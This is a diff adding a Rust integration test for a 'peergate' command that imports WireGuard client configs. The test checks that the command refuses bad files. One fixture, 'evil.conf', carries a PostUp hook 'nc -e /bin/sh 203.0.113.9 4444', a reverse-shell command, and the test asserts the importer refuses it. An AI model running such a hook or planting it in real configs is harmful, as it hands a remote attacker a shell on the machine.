@@ -147,3 +147,51 @@ async fn serve_explains_first_time_setup_and_stops_gracefully_on_sigterm() {
     std::io::Read::read_to_string(&mut stderr, &mut rest).unwrap();
     assert!(rest.contains("peergate stopped"), "{rest}");
 }
+
+#[tokio::test]
+async fn client_import_reports_each_file_of_a_mixed_directory() {
+    use crate::clients::{conf, conf_with};
+    let app = TestApp::spawn().await;
+    let source = app.dir.path().join("old-wireguard");
+    std::fs::create_dir_all(&source).unwrap();
+    std::fs::write(source.join("site-a.conf"), conf("10.77.0.0/24")).unwrap();
+    std::fs::write(source.join("home.conf"), conf("0.0.0.0/0")).unwrap();
+    std::fs::write(source.join("evil.conf"), conf_with("10.78.0.0/24", "PostUp = nc -e /bin/sh 203.0.113.9 4444")).unwrap();
+    std::fs::write(source.join("junk.conf"), [0u8, 1, 2, 255]).unwrap();
+    std::fs::write(source.join("README"), "not a config").unwrap();
+
+    let out = peergate(&app.database_url, &app.data_dir())
+        .env("PEERGATE_WG_DIR", app.wg_dir())
+        .env("PEERGATE_LAN_ADDRESS", "10.201.0.1/24")
+        .args(["client", "import"])
+        .arg(&source)
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    let stderr = String::from_utf8(out.stderr).unwrap();
+    assert_eq!(out.status.code(), Some(1), "not everything was imported: {stdout}{stderr}");
+    assert!(stderr.contains("3 of 4 files were not imported"), "{stderr}");
+    let line = |file: &str| stdout.lines().find(|l| l.contains(file)).unwrap_or_default().to_string();
+    assert!(line("site-a.conf").starts_with("imported"), "{stdout}");
+    assert!(line("home.conf").starts_with("needs_subnet"), "{stdout}");
+    assert!(line("evil.conf").starts_with("refused") && line("evil.conf").contains("PostUp"), "{stdout}");
+    assert!(line("junk.conf").starts_with("refused"), "{stdout}");
+    assert!(!stdout.contains("README"));
+    assert_eq!(app.wg_files(), ["site-a.conf"]);
+    assert!(!std::fs::read_to_string(app.wg_dir().join("site-a.conf")).unwrap().contains("# site A"));
+
+    // With the subnet, the full-tunnel file imports too; an already imported one is skipped.
+    let out = peergate(&app.database_url, &app.data_dir())
+        .env("PEERGATE_WG_DIR", app.wg_dir())
+        .env("PEERGATE_LAN_ADDRESS", "10.201.0.1/24")
+        .args(["client", "import", "--subnet", "10.88.0.0/24"])
+        .arg(source.join("home.conf"))
+        .arg(source.join("site-a.conf"))
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    assert!(out.status.success(), "{stdout}{}", String::from_utf8_lossy(&out.stderr));
+    assert!(stdout.lines().any(|l| l.starts_with("imported") && l.contains("10.88.0.0/24")), "{stdout}");
+    assert!(stdout.lines().any(|l| l.starts_with("skipped") && l.contains("site-a.conf")), "{stdout}");
+    assert_eq!(app.client_count().await, 2);
+}
